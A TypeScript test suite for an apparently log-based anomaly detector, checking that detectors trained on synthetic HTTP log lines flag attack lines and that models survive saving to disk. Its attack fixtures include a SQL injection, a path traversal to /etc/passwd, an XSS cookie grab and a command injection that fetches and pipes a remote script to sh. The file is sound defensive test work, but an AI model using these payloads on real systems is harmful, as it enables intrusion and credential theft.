// SPDX-FileCopyrightText: The logtwin authors
// SPDX-License-Identifier: Apache-2.0

// From normal texts to a model on disk and back, to judged texts with reasons, and to results that evaluate writes.

import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readAnomalyFolder, writeAnomalyFolder } from '../../../../src/evaluate/anomaly/anomalyFolder.js';
import { AnomalyModel } from '../../../../src/evaluate/anomaly/anomalyModel.js';
import { compareDetectors } from '../../../../src/evaluate/anomaly/compareDetectors.js';
import { detectorNames } from '../../../../src/evaluate/anomaly/detectors/table.js';
import { fitAnomalyModel, type FitOptions } from '../../../../src/evaluate/anomaly/fitAnomalyModel.js';
import { measureAnomalies } from '../../../../src/evaluate/anomaly/measureAnomalies.js';
import { textsByNature } from '../../../../src/evaluate/anomaly/normalTexts.js';
import type { TextRecord } from '../../../../src/evaluate/labelledTexts.js';
import { SeededRandom } from '../../../../src/util/seededRandom.js';
import { writeSeededModel } from '../../../support/seededModel.js';

const folder = mkdtempSync(join(tmpdir(), 'logtwin-anomaly-'));
afterAll(() => rmSync(folder, { recursive: true }));

const random = new SeededRandom(8);
const pick = (words: string): string => words.split(' ')[random.below(words.split(' ').length)]!;
const normalText = (): string =>
  `GET /${pick('shop cart item help')}/${random.below(500)}?page=${random.below(9)} ${pick('200 304 404')}`;
const normal = Array.from({ length: 240 }, normalText);
const strange = [
  "GET /shop/1?page=1' UNION SELECT password FROM users-- 200",
  'GET /../../../../etc/passwd 403',
  'POST /cgi-bin/x.sh?cmd=;wget http://198.51.100.7/a|sh 500',
  '<script>alert(document.cookie)</script>',
];
const small = { rank: 8, seed: 5 };

describe.each(['characters', 'words', 'requests'] as const)('%s', (features) => {
  test.each(detectorNames)('%s puts attacks above what it learned, before and after the disk', async (detector) => {
    const data = await fitAnomalyModel(normal, { ...small, features, detector });
    const path = join(folder, `${features}-${detector}`);
    writeAnomalyFolder(path, data);
    const [made, read] = await Promise.all([AnomalyModel.open(data), AnomalyModel.open(readAnomalyFolder(path))]);
    const usual = Array.from({ length: 50 }, normalText);
    const judged = await made.judge([...strange, ...usual]);
    expect(await read.judge([...strange, ...usual])).toEqual(judged);
    const middle = judged
      .slice(strange.length)
      .map(({ share }) => share)
      .sort((a, b) => a - b)[25]!;
    expect(judged.slice(0, strange.length).every(({ share }) => share > middle)).toBe(true);
    const caught = judged.slice(0, strange.length).filter(({ anomalous }) => anomalous).length;
    // A forest cuts along one feature at a time and the border of the support vector machine is soft: few rise above all.
    expect(caught).toBeGreaterThanOrEqual({ svm: 1, forest: 0 }[detector as string] ?? 3);
    expect(judged.slice(strange.length).filter(({ anomalous }) => anomalous).length).toBeLessThan(6);
    const [reasons] = await read.nearest(strange, 2);
    expect(reasons!.every(({ text }) => normal.includes(text))).toBe(true);
  });
});

test('embeddings of a converted transformer, from fitting to results on disk', async () => {
  const modelFolder = writeSeededModel(folder, 'bert', 'bert');
  // Words that the small vocabulary of the seeded model has.
  const words = 'failed accepted password for root from port login user admin error disk full'.split(' ');
  const line = (): string => `accepted password for ${words[random.below(3) + 7]!} from port ${random.below(9)}`;
  const lines = Array.from({ length: 60 }, line);
  const data = await fitAnomalyModel(lines, { ...small, features: 'embeddings', modelFolder });
  expect(data.exampleRows.length / data.examples.length).toBe(32);
  const path = join(folder, 'embeddings');
  writeAnomalyFolder(path, data);
  const model = await AnomalyModel.open(readAnomalyFolder(path));
  async function* texts(): AsyncGenerator<TextRecord> {
    await Promise.resolve();
    for (let count = 0; count < 6; count++) yield { text: `disk full error ${count} disk full`, label: 'attack' };
    for (let count = 0; count < 40; count++) yield { text: line(), label: 'quiet' };
  }
  try {
    const { results, anomalies } = await measureAnomalies(model, texts(), {
      modelFolder: path,
      folder: join(folder, 'embedding-results'),
      normal: ['quiet'],
      inputs: ['made up'],
      batch: 16,
      nearest: 1,
    });
    expect(anomalies).toBeGreaterThanOrEqual(6);
    expect(results.metrics!.classes.find(({ label }) => label === 'anomalous')!.roc_auc).toBeGreaterThan(0.95);
  } finally {
    await model.close();
  }
});

test('the same texts and seed give the same files', async () => {
  const [one, two] = [join(folder, 'one'), join(folder, 'two')];
  writeAnomalyFolder(one, await fitAnomalyModel(normal, { ...small, detector: 'forest' }));
  writeAnomalyFolder(two, await fitAnomalyModel(normal, { ...small, detector: 'forest' }));
  for (const name of ['anomaly.json', 'arrays.safetensors', 'terms.json', 'examples.json']) {
    expect(readFileSync(join(two, name)).equals(readFileSync(join(one, name)))).toBe(true);
  }
});

test('no more of the normal texts alert than the budget allows', async () => {
  for (const [alertsPerDay, most] of [
    [1000, 24],
    [500, 12],
  ] as const) {
    const { threshold } = await fitAnomalyModel(normal, {
      ...small,
      // Hand-made marks of these texts are often equal; letters tell every text from the others.
      features: 'characters',
      budget: { kind: 'budget', alertsPerDay, eventsPerDay: 10_000 },
    });
    expect(threshold.outcome.alerts).toBeLessThanOrEqual(most);
    expect(threshold.outcome.alerts).toBeGreaterThanOrEqual(most - 2);
  }
});

test.each([
  [{ texts: normal.slice(0, 5) }, 'too few to learn from'],
  [{ budget: { kind: 'budget', alertsPerDay: 1, eventsPerDay: 1e6 } as const }, 'cannot tell 1 alert in 1000000'],
  [{ settings: { q: 1 } }, 'mahalanobis has no setting q=1'],
  [{ features: 'embeddings' as const }, 'need a converted transformer'],
])('refuses %j', async (given, reason) => {
  const { texts = normal, ...options } = given as FitOptions & { readonly texts?: readonly string[] };
  await expect(fitAnomalyModel(texts, { ...small, ...options })).rejects.toThrow(reason);
});

test('a folder that is none, and one that was cut off', async () => {
  expect(() => readAnomalyFolder(folder)).toThrow('no anomaly.json');
  const path = join(folder, 'broken');
  writeAnomalyFolder(path, await fitAnomalyModel(normal, small));
  const arrays = join(path, 'arrays.safetensors');
  writeFileSync(arrays, readFileSync(arrays).subarray(0, -8));
  expect(() => readAnomalyFolder(path)).toThrow('MD1001');
});

async function* records(): AsyncGenerator<TextRecord> {
  await Promise.resolve();
  for (const text of strange) yield { text, label: 'attack' };
  for (let count = 0; count < 60; count++) yield { text: normalText(), label: 'quiet' };
}

test('results are those of evaluate, with reasons beside them', async () => {
  const model = await AnomalyModel.open(await fitAnomalyModel(normal, small));
  const { results, anomalies } = await measureAnomalies(model, records(), {
    modelFolder: 'm',
    folder: join(folder, 'results'),
    normal: ['quiet'],
    inputs: ['made up'],
    batch: 16,
    nearest: 2,
  });
  expect(results.metrics!.classes.find(({ label }) => label === 'anomalous')!.roc_auc).toBeGreaterThan(0.95);
  expect(results.metrics!.curves!.map(({ label }) => label)).toEqual(['normal', 'anomalous']);
  expect(results.threshold!.labels).toEqual(['anomalous']);
  const lines = readFileSync(join(folder, 'results/anomalies.ndjson'), 'utf8').trimEnd().split('\n');
  expect(lines).toHaveLength(anomalies);
  expect(JSON.parse(lines[0]!)).toMatchObject({
    text: strange[0],
    label: 'anomalous',
    anomaly: { is_anomalous: true, nearest_normal: [{}, {}] },
  });
});

test('compares every detector on folds that share no template', async () => {
  const many = Array.from({ length: 40 }, (_, index) => strange[index % 4]!.replace('1', String(index)));
  const words = 'shop cart item help about terms login search basket order'.split(' ');
  const varied = normal.map((text, index) => `${text} ${words[index % 10]}`);
  const rows = await compareDetectors(varied, many, { ...small, features: ['requests'], folds: 3 });
  expect(rows.map(({ detector }) => detector).sort()).toEqual([...detectorNames].sort());
  expect(rows[0]!.roc_auc).toBeGreaterThan(0.95);
  await expect(compareDetectors(normal, [], { features: ['requests'] })).rejects.toThrow(
    '240 normal texts and 0 others',
  );
});

test('keeps an even sample of a long stream', async () => {
  async function* long(): AsyncGenerator<TextRecord> {
    await Promise.resolve();
    for (let count = 0; count < 5000; count++) yield { text: String(count) };
  }
  const { normal: kept, seen } = await textsByNature(long(), { most: 500, seed: 1 });
  expect([kept.length, new Set(kept).size, seen.normal]).toEqual([500, 500, 5000]);
  const mean = kept.reduce((sum, text) => sum + Number(text), 0) / 500;
  // Four standard deviations of the mean of 500 out of 5,000.
  expect(Math.abs(mean - 2499.5)).toBeLessThan(4 * (5000 / Math.sqrt(12 * 500)));
});
